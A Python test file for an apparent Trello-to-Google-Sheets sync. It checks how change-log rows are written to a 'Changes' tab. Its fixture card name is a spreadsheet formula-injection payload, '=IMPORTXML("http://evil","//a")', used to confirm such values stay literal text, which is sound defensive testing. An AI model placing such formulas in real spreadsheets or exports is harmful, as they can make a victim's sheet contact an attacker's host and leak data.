"""The optional Changes tab: change-log rows reach it once, in the run's single batchUpdate."""

from __future__ import annotations

from datetime import UTC, datetime
from pathlib import Path

from app.store.store import ChangeRecord
from tests.support.world import World, world

CHANGES = "    changes_tab: Changes\n"
HEADER = ["When", "Who", "Card", "Field", "Before", "After"]


def record(
    w: World, minute: int, field: str = "list", before: str = "Drafting", after: str = "Review"
) -> None:
    """Log one change of card c1 as the webhook endpoint would."""
    w.store.record_changes(
        [
            ChangeRecord(
                at=datetime(2026, 12, 1, 8, minute, tzinfo=UTC),
                pair="calendar",
                board_id=w.board_id,
                action_id=f"action-{minute}",
                action_type="updateCard",
                member="Alice Martin",
                card_id="c1",
                card_name='=IMPORTXML("http://evil","//a")',
                field=field,
                before=before,
                after=after,
            )
        ]
    )


def test_pending_changes_land_once_in_a_new_changes_tab(tmp_path: Path) -> None:
    with world(tmp_path) as w:
        w.configure(extra=CHANGES)
        record(w, 5)
        record(w, 7, field="name", before="=1+1", after="Plain")
        w.clear_logs()
        first = w.sync()
        assert first.outcome == "ok" and first.rows_added == 12
        # The tab was missing: one extra read found that out, and one write added it with the rows.
        assert w.calls() == {"trello": 1, "sheets_read": 2, "sheets_write": 1}
        rows = w.values("Changes")
        assert rows[0] == HEADER
        assert [row[1:] for row in rows[1:]] == [
            # In the sheet's language: the column headers the pair maps `list` and `name` to.
            ["Alice Martin", '=IMPORTXML("http://evil","//a")', "Status", "Drafting", "Review"],
            ["Alice Martin", '=IMPORTXML("http://evil","//a")', "Title", "=1+1", "Plain"],
        ]
        assert rows[1][0].startswith("2026-12-01 09:05")  # a date cell shown in Europe/Paris time
        assert len(w.values("Calendar")) == 13

        w.clear_logs()
        again = w.sync()
        assert again.outcome == "noop"
        assert w.calls() == {"trello": 1, "sheets_read": 1}  # nothing pending: no write at all
        assert len(w.values("Changes")) == 3


def test_a_run_whose_only_news_is_change_rows_makes_one_write(tmp_path: Path) -> None:
    with world(tmp_path) as w:
        w.configure(extra=CHANGES)
        w.sync()
        assert w.values("Changes") == [HEADER]  # the tab exists from the first run on
        record(w, 9)
        w.clear_logs()
        result = w.sync()
        assert (result.outcome, result.rows_added, result.cells_changed) == ("ok", 0, 0)
        assert "1 change-log row appended" in result.message
        assert w.calls() == {"trello": 1, "sheets_read": 1, "sheets_write": 1}
        record(w, 11, before="Review", after="Scheduled")
        w.sync()
        assert [row[4:] for row in w.values("Changes")[1:]] == [
            ["Drafting", "Review"],
            ["Review", "Scheduled"],
        ]
        assert w.store.unwritten_changes("calendar") == []


def test_a_tab_people_created_gets_the_header_on_first_use(tmp_path: Path) -> None:
    with world(tmp_path) as w:
        w.sheets.add_tab(w.spreadsheet_id, "Changes")
        w.configure(extra=CHANGES)
        w.sync()
        assert w.values("Changes") == []  # nothing to log yet: the tab stays untouched
        record(w, 3)
        w.clear_logs()
        w.sync()
        assert w.calls() == {"trello": 1, "sheets_read": 1, "sheets_write": 1}
        rows = w.values("Changes")
        assert rows[0] == HEADER and len(rows) == 2


def test_pairs_without_a_changes_tab_leave_the_log_pending(tmp_path: Path) -> None:
    with world(tmp_path) as w:
        record(w, 1)
        w.sync()
        w.clear_logs()
        assert w.sync().outcome == "noop"
        assert w.calls() == {"trello": 1, "sheets_read": 1}
        assert len(w.store.unwritten_changes("calendar")) == 1
        tabs = [tab["title"] for tab in w.sheets.tabs(w.spreadsheet_id)]
        assert tabs == ["Calendar"]


def test_list_field_option_ids_are_shown_as_their_text(tmp_path: Path) -> None:
    with world(tmp_path, cards=1) as w:
        w.configure(extra=CHANGES)
        field = w.trello.create_custom_field(w.board_id, "Channel", "list", ["Organic", "Paid"])
        option = {o["value"]["text"]: o["id"] for o in field["options"]}
        record(w, 9, field="custom:Channel", before=option["Organic"], after=option["Paid"])
        w.sync()
        assert w.values("Changes")[1][3:] == ["Channel", "Organic", "Paid"]  # no column: the field by name


def test_a_renamed_changes_tab_does_not_block_the_pair(tmp_path: Path) -> None:
    with world(tmp_path, cards=2) as w:
        w.configure(extra=CHANGES)
        record(w, 1)
        w.sync()
        old = w.sheets.read_tab(w.spreadsheet_id, "Changes").sheet_id
        w.batch_update(
            [
                {
                    "updateSheetProperties": {
                        "properties": {"sheetId": old, "title": "Changes 2025"},
                        "fields": "title",
                    }
                }
            ]
        )
        record(w, 2)
        assert w.sync().outcome == "ok"  # a fresh Changes tab, with the new row, and the old one kept
        assert len(w.values("Changes")) == 2 and len(w.values("Changes 2025")) == 2


def test_a_missing_changes_tab_costs_one_400_per_process_not_one_per_run(tmp_path: Path) -> None:
    with world(tmp_path) as w:
        w.configure(extra=CHANGES)
        syncer = w.syncer()  # one process: the service's Syncer lives as long as the service
        w.clear_logs()
        for _ in range(3):  # a pair that never writes (here: plans only) keeps the tab missing
            syncer.preview("calendar")
        statuses = [entry["status"] for entry in w.sheets_app.state.request_log.snapshot()]
        assert statuses == [400, 200, 200, 200]  # the first read found the tab missing, once
        assert syncer.run("calendar").outcome == "ok"  # the write adds it ...
        w.clear_logs()
        assert syncer.run("calendar").outcome == "noop"  # ... and the read finds it again at once
        assert [e["status"] for e in w.sheets_app.state.request_log.snapshot()] == [200]
        assert w.values("Changes") == [HEADER]


def test_dates_and_checkboxes_in_the_changes_tab_read_as_the_sheet_shows_them(tmp_path: Path) -> None:
    with world(tmp_path) as w:
        w.configure(
            columns="""
      - {header: Date, field: due}
      - {header: Title, field: name}
      - {header: Done, field: dueComplete}
""",
            extra=CHANGES,
        )
        record(w, 5, field="due", before="2026-12-01T08:00:00.000Z", after="2026-12-02T23:00:00.000Z")
        record(w, 6, field="dueComplete", before="false", after="true")
        w.sync()
        assert [row[3:] for row in w.values("Changes")[1:]] == [
            ["Date", "2026-12-01 09:00", "2026-12-03"],  # Europe/Paris: 23:00 UTC is midnight next day
            ["Done", "FALSE", "TRUE"],
        ]
